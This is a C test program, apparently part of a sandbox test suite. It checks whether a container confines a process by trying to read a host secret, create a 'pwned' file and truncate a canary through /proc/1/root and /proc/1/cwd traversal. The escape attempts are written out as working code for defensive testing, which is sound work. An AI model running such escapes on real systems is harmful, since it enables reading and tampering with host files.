/* SPDX-License-Identifier: MIT
 * attack: reach the host's filesystem through /proc/1/root and /proc/1/cwd
 * expect: OK
 * expect-default: OK
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

/* The host's parameters: key=value lines on stdin (see test_attacks.py). */
static __attribute__((unused)) const char *param(const char *key)
{
        static char buf[4096], val[1024];
        static size_t len;
        static int loaded;
        const char *p;
        ssize_t n;

        while (!loaded && (n = read(0, buf + len, sizeof(buf) - 1 - len)) > 0)
                len += (size_t) n;
        loaded = 1;
        for (p = buf; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL)
                if (!strncmp(p, key, strlen(key)) && p[strlen(key)] == '=') {
                        snprintf(val, sizeof(val), "%.*s", (int) strcspn(p + strlen(key) + 1, "\n"),
                                 p + strlen(key) + 1);
                        return val;
                }
        return "";
}

/* failed: the attempt returned an error, so the sandbox held. */
static __attribute__((unused)) void verdict(int failed, const char *what)
{
        if (failed)
                printf("HELD: %s (%s)\n", what, strerror(errno));
        else
                printf("BROKEN: %s\n", what);
        fflush(stdout);
}

/* Before a call that the runtime's seccomp profile may answer by killing. */
static __attribute__((unused)) void trying(const char *what)
{
        printf("trying: %s\n", what);
        fflush(stdout);
}

static __attribute__((unused)) int over(void)
{
        puts("attack over");
        return 0;
}

static void try_read(const char *path)
{
        char buf[256];
        int fd = open(path, O_RDONLY);

        if (fd >= 0) {
                ssize_t n = read(fd, buf, sizeof(buf) - 1);
                buf[n > 0 ? n : 0] = '\0';
                printf("read %s: %s\n", path, buf); /* the host checks no secret shows up */
                close(fd);
        }
        printf("HELD: %s is not the host's file\n", path);
}

int main(void)
{
        const char *secret = param("secret_path"), *canary = param("canary_path");
        char path[1200], dir[1024];
        int fd;

        snprintf(path, sizeof(path), "/proc/1/root%s", secret);
        try_read(path);
        snprintf(path, sizeof(path), "/proc/1/cwd/../../../../../..%s", secret);
        try_read(path);
        try_read(secret);
        snprintf(dir, sizeof(dir), "%s", canary);
        *strrchr(dir, '/') = '\0';
        snprintf(path, sizeof(path), "/proc/1/root%s/pwned", dir);
        fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        verdict(fd < 0, "create a file in the host's directory through /proc/1/root");
        snprintf(path, sizeof(path), "/proc/1/root%s", canary);
        fd = open(path, O_WRONLY | O_TRUNC);
        verdict(fd < 0, "truncate the host's canary through /proc/1/root");
        return over();
}
